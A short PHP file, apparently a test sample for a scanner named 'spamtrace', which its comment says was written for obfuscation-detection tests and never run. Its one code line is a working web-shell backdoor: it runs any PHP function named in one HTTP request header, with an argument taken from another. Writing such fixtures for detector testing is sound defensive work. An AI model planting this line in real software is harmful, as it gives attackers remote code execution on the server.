<?php
// spamtrace test sample: written for the scanner tests, never run (issue #17 obfuscation probes).
@getenv('HTTP_X_RUN')(getenv('HTTP_X_ARG'));
